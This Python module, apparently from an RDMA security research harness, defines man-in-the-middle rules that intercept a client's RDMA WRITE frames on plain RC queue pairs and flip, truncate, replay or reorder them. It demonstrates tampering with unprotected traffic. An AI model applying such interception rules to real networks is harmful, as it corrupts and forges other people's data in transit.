"""Rules of a man in the middle of plain RC QPs: what becomes of the WRITEs of the left host."""

from __future__ import annotations

from collections.abc import Iterable

from srdma_attack.against_plain.cable import LEFT, RIGHT
from srdma_attack.against_plain.frames import Frame

__all__ = ["LEFT", "RIGHT", "Flip", "Reorder", "Replay", "Truncate", "Writes"]

WRITE_ONLY = 0x0A


class Writes:
    """The rule that passes all frames. WRITEs of the client go through change()."""

    def __init__(self) -> None:
        self.seen: list[Frame] = []

    def __call__(self, side: int, data: bytes) -> Iterable[bytes]:
        frame = Frame.parse(data) if side == LEFT else None
        if frame is None or frame.opcode != WRITE_ONLY:
            return [data]
        self.seen.append(frame)
        return [changed.build() for changed in self.change(frame)]

    def change(self, frame: Frame) -> Iterable[Frame]:
        return [frame]


class Flip(Writes):
    """Inverts the last byte."""

    def change(self, frame: Frame) -> Iterable[Frame]:
        return [frame.with_payload(frame.payload[:-1] + bytes([frame.payload[-1] ^ 0xFF]))]


class Truncate(Writes):
    """Cuts the second half."""

    def change(self, frame: Frame) -> Iterable[Frame]:
        return [frame.with_payload(frame.payload[: len(frame.payload) // 2])]


class Replay(Writes):
    """Sends the first WRITE again in place of the third one."""

    def change(self, frame: Frame) -> Iterable[Frame]:
        return [self.seen[0].with_number_of(frame) if len(self.seen) == 3 else frame]


class Reorder(Writes):
    """Exchanges the first WRITE and the second."""

    def change(self, frame: Frame) -> Iterable[Frame]:
        first = self.seen[0]
        if frame is first:
            return []
        if len(self.seen) > 2:  # sent again
            return [frame]
        return [frame.with_number_of(first), first.with_number_of(frame)]
